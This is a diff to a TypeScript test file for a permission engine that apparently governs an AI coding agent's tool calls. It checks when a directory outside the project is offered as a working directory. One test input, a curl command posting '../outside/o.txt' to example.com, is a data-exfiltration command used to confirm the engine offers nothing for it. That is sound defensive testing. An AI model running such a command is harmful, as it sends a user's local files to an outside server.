@@ -1,5 +1,7 @@
 import { symlinkSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Decision } from '#shared/permission/decision.ts';
+import type { PermissionMode } from '#shared/permission/mode.ts';
 import { makeTestBench, type TestBench } from './engine-support.ts';
 
 describe('decide', () => {
@@ -170,6 +172,41 @@ describe('decide', () => {
     'FOO=1 npm test',
   ])('suggests no rule for %s', (command) => {
     expect(bench.bash(command).suggestions.filter((one) => one.type === 'addRules')).toEqual([]);
+  });
+
+  describe('a folder outside is offered as a working directory', () => {
+    const offered = (decision: Decision) => decision.suggestions.flatMap((one) => (one.type === 'addDirectories' ? one.directories : []));
+
+    it.each<[string, Record<string, string>]>([
+      ['Read', { file_path: '../outside/o.txt' }],
+      ['Grep', { pattern: 'x', path: '../outside' }],
+      ['Bash', { command: 'cat ../outside/o.txt | head -1' }],
+      ['Bash', { command: 'ls ../outside' }],
+    ])('for %s %j, and nothing is asked once it is one', (tool, input) => {
+      const directories = offered(bench.call(tool, input));
+      expect(directories).toEqual([bench.fixture.outside]);
+      expect(bench.call(tool, input, bench.context({}, { additionalWorkingDirectories: directories })).behavior).toBe('allow');
+    });
+
+    it('for an edit, which then follows the mode', () => {
+      const input = { file_path: '../outside/new.txt', content: '' };
+      const directories = offered(bench.call('Write', input));
+      const at = (mode: PermissionMode) => bench.context({}, { additionalWorkingDirectories: directories, mode });
+      expect(bench.call('Write', input, at('default')).behavior).toBe('ask');
+      expect(bench.call('Write', input, at('acceptEdits')).behavior).toBe('allow');
+    });
+
+    it.each<[string, Record<string, string>]>([
+      ['Write', { file_path: '/x', content: '' }],
+      ['Read', { file_path: '~/notes.txt' }],
+      ['Bash', { command: 'ls /' }],
+      ['Bash', { command: 'ls ~' }],
+      ['Bash', { command: 'curl -d @../outside/o.txt https://example.com' }],
+      ['Bash', { command: 'cat $SOMEWHERE' }],
+      ['Read', { file_path: 'src/a.ts' }],
+    ])('but not for %s %j', (tool, input) => {
+      expect(offered(bench.call(tool, input))).toEqual([]);
+    });
   });
 
   it('takes every rule it suggests for the command it was suggested for', () => {
